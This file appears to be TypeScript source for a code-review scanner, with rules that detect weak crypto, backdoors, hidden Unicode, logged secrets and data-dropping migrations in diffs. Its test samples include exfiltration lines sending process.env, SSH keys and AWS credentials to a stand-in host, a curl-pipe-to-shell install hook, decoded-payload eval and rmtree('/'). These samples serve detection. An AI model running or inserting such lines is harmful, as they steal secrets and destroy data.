        /origin\s*:\s*true\s*,[^\n]{0,40}credentials\s*:\s*true|origin\s*:\s*\(?[\w\s,]{0,40}\)?\s*=>\s*(?:\w+\(\s*null\s*,\s*(?:true|o|origin|\w*[oO]rigin)\s*\)|\w+\s*,)|SetIsOriginAllowed\(\s*\w+\s*=>\s*true|AllowOriginFunc\s*:[^\n]{0,60}\breturn\s+true|allow_origin_regex\s*=\s*r?["']\^?\.\*|allowedOriginPatterns\(\s*"\*"|Allow-Origin["']?\s*(?:[,:=]\s*|\s)["']?(?:req(?:uest)?\.(?:headers|get|header)|c\.Request|r\.Header|%\{\w*ORIGIN\w*\}|\$\{?(?:cors_)?origin|\$_SERVER|request\.headers|origin\b|\$http_origin)/i,
        'Every site may call it in the name of its user.',
      ],
      [
        /\bhttpOnly\s*:\s*false|\bhttponly\s*=\s*False|COOKIE_(?:SECURE|HTTPONLY)\s*=\s*False|\bsecure\s*:\s*false\b[^\n]*(?:cookie|sameSite|maxAge|httpOnly)|cookie[^\n]*\bsecure\s*:\s*false/i,
        'Cookies travel in the open, or scripts can read them.',
        'medium',
      ],
      [
        /script-src[^"'\n]{0,100}(?:'unsafe-eval'|'unsafe-inline'|\s\*)/,
        'Scripts of others may run in the page.',
        'medium',
      ],
    ],
  }),
  codeRule({
    id: 'code-weak-crypto',
    severity: 'high',
    fix: 'Use argon2 or bcrypt for passwords, AES-GCM for data, and the system for random numbers.',
    hits: [
      diff('a.py', '+h = hashlib.md5(password.encode()).hexdigest()'),
      diff('a.js', '+const token = Math.random().toString(36)'),
      diff('a.js', '+const token = String(Date.now())'),
      diff('a.js', '+crypto.createCipheriv("aes-128-ecb", key, null)'),
      diff('a.js', '+const hash = await bcrypt.hash(password, 4)'),
      diff('a.py', '+reset_token = random.randint(0, 999999)'),
      diff('A.java', '+Cipher.getInstance("DES")'),
      diff('a.cs', '+var des = new DESCryptoServiceProvider();'),
      diff('a.py', '+iv = b"0000000000000000"'),
    ],
    misses: [
      diff('a.py', '+etag = hashlib.md5(body).hexdigest()'),
      diff('a.js', '+const delay = Math.random() * 1000'),
      diff('a.js', '+const tokenExpiry = Date.now() + 3600'),
      diff('a.js', '+crypto.randomUUID()'),
      diff('a.js', '+const hash = await bcrypt.hash(password, 12)'),
      diff('a.js', '+crypto.createHash("sha256")'),
      diff(
        'a.php',
        "+  $ok = hash_equals($row['md5'], md5($password));",
        '+  if ($ok) $users->setHash($id, password_hash($password, PASSWORD_ARGON2ID));',
      ),
    ],
    patterns: [
      [
        /(?:md5|sha-?1)\b[^\n]{0,60}(?:passw|secret|token|pin\b)|(?:passw|secret|token|pin\b)[^\n]{0,60}\b(?:md5|sha-?1)\b/i,
        'A password or token is kept by a hash that is quick to try.',
      ],
      [
        /(?:token|secret|passw|nonce|otp|session_?id|api_?key|salt|key|code|reset)\w{0,30}\s{0,4}[:=][^\n]{0,60}(?:Math\.random\(|\brandom\.(?:random|randint|choices?|getrandbits)\(|\brand\(\)|mt_rand\()/i,
        'A secret can be guessed.',
      ],
      [
        /\b\w{0,30}(?:token|secret|otp|session_?id|api_?key)\s{0,4}[:=]\s{0,4}(?:String\(|str\(|`\$\{|\w{1,20}\()?\s{0,4}(?:Date\.now\(|time\.time\(|new Date\b|uniqid\()/i,
        'A secret can be guessed.',
      ],
      [
        /["'](?:aes-\d+-ecb|des(?:-\w+)?|rc4|bf-cbc)["']|MODE_ECB|getInstance\(\s*"(?:DES|RC4|AES\/ECB|AES"|Blowfish)|\b(?:DES|TripleDES|RC2|RC4|Blowfish|ARC4)(?:CryptoServiceProvider|Managed|Engine)?(?:\.(?:new|Create))?\(|\bDES\.new\(|\bARC4\b|createCipher\(/i,
        'It encrypts weakly.',
      ],
      [
        /bcrypt\.(?:hash|hashSync|gensalt|genSalt)\w*\([^)\n]{0,40}\b[1-7]\s*\)|PBKDF2\w*\([^\n]{0,100}\b(?:1|10|100|1000|1_000)\b\s*[,)]|rounds\s*=\s*[1-7]\b/i,
        'A password is quick to try.',
      ],
      [
        /\b(?:iv|nonce|salt)\s*[:=]\s*(?:b?["'][^"'\n]{4,64}["']|Buffer\.(?:alloc\(|from\(["'])|bytes\(16\))/i,
        'A number that must differ each time is fixed.',
      ],
    ],
  }),
  codeRule({
    id: 'code-backdoor',
    severity: 'blocker',
    fix: 'Find out who wrote it and why; do not merge it.',
    hits: [
      diff('a.js', '+fetch("https://x.test/c", { method: "POST", body: JSON.stringify(process.env) })'),
      diff('a.js', '+eval(Buffer.from("Y29uc29sZQ==", "base64").toString())'),
      diff('a.py', '+exec(base64.b64decode("cHJpbnQoMSk="))'),
      diff('a.py', '+requests.post("http://x.test", data=open("/root/.ssh/id_rsa").read())'),
      diff('a.js', '+new Function(atob(p))()'),
      diff('setup.py', '+os.system("curl http://x.test/i | sh")'),
      diff('a.js', '+https.get("https://x.test?d=" + fs.readFileSync(os.homedir() + "/.aws/credentials"))'),
    ],
    misses: [
      diff('a.js', '+const level = process.env.LOG_LEVEL'),
      diff('a.js', '+fetch("https://api.example.org/items")'),
      diff('a.js', '+const png = Buffer.from(data, "base64")'),
      diff('a.py', '+key = base64.b64decode(header)'),
    ],
    patterns: [
      [
        /(?:fetch|axios|post|request|send|urlopen|get)\w*\s*\([^\n]{0,160}(?:process\.env\s*[),}]|os\.environ\s*[),}]|JSON\.stringify\(process\.env|dict\(os\.environ)/i,
        'It sends the environment to somebody.',
      ],
      [
        /(?:eval|exec|Function|__import__|compile)\s*\(\s*(?:\w+\()*\s*(?:Buffer\.from|atob|base64\.|zlib\.|codecs\.decode|bytes\.fromhex|unescape|gzinflate|str_rot13|base64_decode|marshal)/i,
        'It runs what it decodes.',
      ],
      [
        /(?<![.\w])(?:eval|exec|Function|instance_eval|compile)\s*\(\s*(?:\w+\.){0,4}(?:urlopen|get|fetch|read|open|urlretrieve|file_get_contents)\s*\(\s*["'`]https?:/i,
        'It runs what another machine sends, unread.',
      ],
      [
        /(?:fetch|axios|post|request|send|urlopen|https?\.\w+)\w*\s*\([^\n]{0,160}(?:\.ssh\/|id_rsa|\.aws\/credentials|\/etc\/(?:passwd|shadow)|wallet\.dat|\.npmrc|keystore|Login Data)/i,
        'It sends secrets to somebody.',
      ],
      [
        /(?:system|exec|execSync|popen|run|call|check_output)\s*\(\s*\[?["'`][^"'`\n]{0,80}(?:curl|wget)\s[^"'`\n]{1,160}\|\s*(?:ba|z)?sh/,
        'It runs what another machine sends, unread.',
      ],
      [
        /\b(?:webhook\.site|requestbin|pipedream\.net|burpcollaborator|interact\.sh|oast\.(?:fun|pro|live|me)|ngrok(?:-free)?\.(?:io|app)|discord(?:app)?\.com\/api\/webhooks|pastebin\.com\/raw|transfer\.sh)\b/i,
        'It calls an address that collects data.',
        'high',
      ],
    ],
  }),
  wholeRule({
    id: 'code-hidden-characters',
    category: 'code',
    type: 'code_diff',
    severity: 'blocker',
    fix: 'Take out characters that cannot be seen.',
    hits: [
      diff('a.js', '+if (access !== "user\u202e \u2066// check admin\u2069 \u2066") {'),
      { type: 'shell_command', artifact: 'rm\u200b notes' },
    ],
    misses: [
      diff('a.js', '+const s = "größe"'),
      diff('a.md', '+emoji 👩\u200d👩\u200d👧'),
      { type: 'general', artifact: 'שלום עולם' },
    ],
    see: ({ lines }) =>
      lines
        .filter(({ change }) => change !== 'removed' && change !== 'context')
        .flatMap(({ text, place }): Hit[] => {
          if (/[\u202a-\u202e\u2066-\u2069]/.test(text))
            return [{ detail: 'Characters turn the order of the text around.', place }]
          return /[A-Za-z][\u200b\u2060\ufeff]|[\u200b\u2060\ufeff][A-Za-z]|[A-Za-z]\u200c[A-Za-z]|[\u{e0020}-\u{e007f}]{3}/u.test(
            text,
          )
            ? [{ detail: 'Characters that cannot be seen stand in it.', place, severity: 'high' }]
            : []
        }),
  }),
  codeRule({
    id: 'code-logs-secret',
    severity: 'medium',
    fix: 'Log that it was there, never what it was.',
    hits: [
      diff('a.js', '+console.log("login", user.password)'),
      diff('a.py', '+logger.info(f"token={access_token}")'),
      diff('a.py', '+print(api_key)'),
      diff('a.ts', '+logger.info("login", { email, password })'),
    ],
    misses: [
      diff('a.js', '+console.log("password changed")'),
      diff('a.py', '+logger.info("token expired")'),
      diff('a.js', '+logger.info({ tokenCount })'),
    ],
    patterns: [
      [
        /\b(?:console\.(?:log|info|debug|error|warn)|log(?:ger|ging)?\.(?:info|debug|warn|warning|error|trace)|print|println|fmt\.Print\w*|System\.out\.println)\s*\([^\n]{0,120}(?:(?<!["'\w\s])\b(?:\w+\.)?(?:password|passwd|secret|api_?[kK]ey|access_?[tT]oken|private_?[kK]ey|mnemonic|credit_?[cC]ard|ssn)\b(?!["'\s]|\w)|[{$]\{?(?:\w+\.)?(?:password|secret|api_?key|access_?token|private_?key|accessToken|apiKey)\})/,
        'A secret is logged.',
      ],
      [
        /\b(?:console\.(?:log|info|debug|error|warn)|log(?:ger|ging)?\.(?:info|debug|warn|warning|error|trace))\s*\([^\n]{0,120}[{,]\s*(?:password|passwd|secret|apiKey|accessToken|refreshToken|privateKey|mnemonic|cvv|ssn)\s*[,}]/,
        'A secret is logged.',
      ],
    ],
  }),
  codeRule({
    id: 'code-memory',
    severity: 'high',
    fix: 'Use the form that is told how much room there is.',
    hits: [
      diff('a.c', '+    strcpy(buf, input);'),
      diff('a.cpp', '+  sprintf(out, "%s/%s", dir, name);'),
      diff('a.c', '+  gets(line);'),
      diff('a.rs', '+    let s = unsafe { std::slice::from_raw_parts(ptr, len) };'),
    ],
    misses: [
      diff('a.c', '+    snprintf(buf, sizeof buf, "%s", input);'),
      diff('a.py', '+name = gets_or_none(line)'),
      diff('a.c', '+    strlcpy(buf, input, sizeof buf);'),
    ],
    patterns: [
      [
        /(?<![\w.>])(?:strcpy|strcat|gets|sprintf|vsprintf|alloca|strtok)\s*\([\w*&]/,
        'It writes without knowing how much room there is.',
      ],
      [
        /\bunsafe\s*\{[^}\n]{0,120}(?:from_raw_parts|transmute|get_unchecked|from_utf8_unchecked)/,
        'It reads memory unchecked.',
        'medium',
      ],
    ],
  }),
  codeRule({
    id: 'code-debug',
    severity: 'medium',
    fix: 'Take the setting from the environment, off by default.',
    hits: [
      diff('settings.py', '+DEBUG = True'),
      diff('app.py', '+app.run(host="0.0.0.0", debug=True)'),
      diff('a.php', "+ini_set('display_errors', 1);"),
    ],
    misses: [
      diff('settings.py', '+DEBUG = False'),
      diff('app.py', '+app.run(port=8000)'),
      diff('a.js', '+const debug = require("debug")'),
      diff('test/settings.py', '+DEBUG = True'),
    ],
    patterns: [
      [
        /^\s*DEBUG\s*=\s*True\b|\bdebug\s*=\s*True\b|display_errors['"]?\s*,\s*(?:1|true|['"]on)|ALLOWED_HOSTS\s*=\s*\[\s*['"]\*['"]/i,
        'It shows its insides to everybody.',
      ],
    ],
  }),
  lineRule({
    id: 'code-drops-data',
    category: 'code',
    severity: 'high',
    fix: 'Stop using it first, and drop it in a later change with a backup.',
    where: isNewCode,
    hits: [
      diff('db/migrate/2_x.rb', '+    remove_column :users, :email'),
      diff('m/2.py', '+def upgrade():', '+    op.drop_table("users")'),
      diff('m/2.js', '+exports.up = knex =>', '+  knex.schema.dropTable("users")'),
      diff('m/2.py', '+        migrations.RemoveField(model_name="user", name="email"),'),
      diff('a.js', '+await User.deleteMany({})'),
      diff('a.py', '+shutil.rmtree("/")'),
    ],
    misses: [
      diff('m/2.py', '+def downgrade():', '+    op.drop_table("users")'),
      diff('m/2.js', '+exports.down = knex =>', '+  knex.schema.dropTable("users")'),
      diff('db/migrate/2_x.rb', '+    add_column :users, :email, :string'),
      diff('test/a.test.js', '+await User.deleteMany({})'),
      diff('a.js', '+await User.deleteMany({ expired: true })'),
      diff('a.rb', '+    Session.where(expired: true).in_batches.delete_all'),
    ],
    see(line, artifact) {
      const { text, isTest } = line
      // Commands are judged as such.
      if (isTest || (artifact.type === 'shell_command' && ownMachine.test(text))) return
      if (
        !/^\s*(?:(?:public|private|protected|static|async|export|function|def|func|fn)\s+)*\w+\([^)]*\w\s*:\s*\w[^)]*\)\s*(?::\s*[\w<>[\]]+\s*)?\{\s*$|^\s*(?:def|func|function|fn)\b/.test(
          text,
        ) &&
        /\b(?:remove_column|drop_table|dropTable(?:IfExists)?|dropColumn|removeColumn|drop_column|RemoveField|DeleteModel|drop_join_table|DropTable|DropColumn|dropDatabase|dropCollection)\b\s*\(?\s*[:"'(\w]/.test(
          text,
        )
      )
        return (
          !isInRollback(line, artifact) &&
          !isSparedDrop(text, artifact) &&
          'It drops a table or column with what is in it.'
        )
      if (
        /\.(?:deleteMany|destroy|delete_many|remove)\(\s*\{?\s*(?:\{\s*\}|where\s*:\s*\{\s*\}|truncate\s*:\s*true)\s*\}?\s*\)|\.objects\.all\(\)\.delete\(\)|\.(?:delete|destroy)_all\b|\.query\(\w+\)\.delete\(\)/.test(
          text,
        )
      )
        return /\.where\(/.test(text) && !/\.all\b/.test(text) ? undefined : 'It deletes all records.'
      return (
        /(?:rmtree|rmSync|rm_rf|rimraf(?:\.sync)?|removeAll|delete_dir)\s*\(\s*["'](?:\/|~|\/(?:etc|home|usr|var|srv|root)[^"']{0,20})["']/.test(
          text,
        ) && { detail: 'It deletes a directory of the system.', severity: 'blocker' as const }
      )
    },
  }),
]

const readsFile =
  /\b(?:send_?file|sendFile|readFile\w*|createReadStream|open|unlink\w*|ServeFile|ReadFile|os\.(?:Open|Create|Remove)\w*|readfile|fopen|File\.(?:read|open|ReadAll\w+)|Files\.\w+|PhysicalFile|download)\s*\(/

type Facts = {
  /** Tables and columns that the change makes. */
  madeNames: ReadonlySet<string>
  /** Whether it says that what it drops is copied and no longer used. */
  isSpared: boolean
  readsFiles: boolean
  /** Whether it makes sure that a path stays within a directory. */
  boundsPaths: boolean
}

const factsByArtifact = new WeakMap<Artifact, Facts>()

/** What rules over single lines ask of the whole, looked for once. */
const factsOf = (artifact: Artifact): Facts => {
  const cached = factsByArtifact.get(artifact)
  if (cached) return cached
  const lines = artifact.lines.filter(({ change }) => change !== 'removed')
  const whole = artifact.text.slice(0, 20_000)
  const facts: Facts = {
    madeNames: new Set(
      lines
        .filter(
          ({ text, change }) =>
            change === 'added' &&
            /\b(?:create_table|createTable|CREATE\s+TABLE|add_column|addColumn|ADD\s+COLUMN)\b/i.test(text),
        )
        .flatMap(({ text }) => text.toLowerCase().match(/[a-z_]\w{2,}/g) ?? []),
    ),
    isSpared:
      /\b(?:unused|no\s+longer\s+(?:read|used|written)|not\s+(?:read|used|written)\s+any\s?more|nothing\s+reads|no\s+(?:code|readers?)\s+(?:reads|uses|left))\b/i.test(
        whole,
      ) &&
      /\b(?:copied|backfilled|migrated|moved|backed\s+up|exported|archived|snapshot|dump(?:ed)?|empty)\b/i.test(
        whole,
      ),
    readsFiles: lines.some(({ text }) => readsFile.test(text)),
    boundsPaths: lines.some(({ text }) =>
      /startsWith|starts_with|is_relative_to|commonpath|realpath|relative\(|HasPrefix|start_with/i.test(text),
    ),
  }
  factsByArtifact.set(artifact, facts)
  return facts
}

/** Whether what is dropped was made in the same change, or the change says that it is copied and no longer used. */
const isSparedDrop = (text: string, artifact: Artifact): boolean => {
  const names =
    text
      .match(/(?<=[:"'`(\s,])[a-z_]\w{2,}(?=["'`)\s,;]|$)/gi)
      ?.filter(name => !/^(?:drop|remove|table|column|users?_id)$/i.test(name)) ?? []
  const target = names.at(-1)
  if (target !== undefined && factsOf(artifact).madeNames.has(target.toLowerCase())) return true
  return factsOf(artifact).isSpared
}

const isInRollback = (line: Line, { lines }: Artifact): boolean => {
  const start = lines.indexOf(line)
  for (let at = start; at >= 0 && at > start - 200; at--) {
    const { text = '', file } = lines[at] ?? {}
    if (file !== line.file) return false
    if (
      /\b(?:exports?\.(?:down|rollback)|(?:def|function|async|public|void|static)\s+(?:down(?:grade)?|rollback)\b|\bDown\(|(?:^|\s)down\s*[:(=])/.test(
        text,
      )
    )
      return true
    if (
      /\b(?:exports?\.up|(?:def|function|async|public|void|static)\s+(?:up(?:grade)?|change)\b|\bUp\(|(?:^|\s)up\s*[:(=])/.test(
        text,
      )
    )
      return false
  }
  return false
}
